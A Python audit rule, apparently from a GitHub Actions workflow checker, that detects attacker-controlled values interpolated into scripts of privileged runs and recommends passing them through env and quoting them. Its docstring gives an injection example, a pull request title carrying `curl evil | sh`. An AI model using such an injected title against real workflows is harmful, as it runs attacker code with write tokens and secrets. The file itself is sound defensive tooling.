"""[untrusted-interpolation] `${{ }}` of an attacker-controlled value (a pull request's title
or head branch, an issue or comment body, an upstream run's head branch or commit message)
inside a `run:` script or an `actions/github-script` script, in a run an outsider starts and
whose token can write or that reads secrets: the value is pasted into the script before it
runs, so a title like `a"; curl evil | sh; "` runs as code.

Incident: Nx "s1ngularity" (GHSA-cxm3-wv7p-598c, 2025-08), a pull request title injected into
a `pull_request_target` job with a write token. Fix: pass the value through `env:` and quote
it (`TITLE: ${{ github.event.pull_request.title }}`, then `"$TITLE"`).
"""

from __future__ import annotations

from collections.abc import Iterator

from simulator.audit.context import AuditContext, applies, finding
from simulator.audit.taint import tainted_interpolations
from simulator.core.diagnostics import Diagnostic

ID = "untrusted-interpolation"
TITLE = "An attacker-controlled value spliced into a script of a privileged run"
FACT = "§13.2"
SEVERITY = "error"


def check(ctx: AuditContext) -> Iterator[Diagnostic]:
    for site in ctx.untrusted_sites():
        if not site.privilege.privileged:
            continue
        for step in site.job.steps:
            texts = [(step.script, step.script_span)]
            if (step.uses or "").startswith("actions/github-script"):
                texts.append((step.with_.get("script"), step.with_spans.get("script")))
            for text, span in texts:
                if not text:
                    continue
                for hit in tainted_interpolations(text, span, step.pos or site.job.pos):
                    if not applies(hit.value, site.run):
                        continue
                    yield finding(ID, FACT, "error", hit.pos,
                                  f"`${{{{ {hit.expression} }}}}` pastes {hit.value}, which the "
                                  f"outsider writes, into a script that runs with "
                                  f"{site.privilege.describe()}; pass it through env: and quote "
                                  "it", site)  # fmt: skip
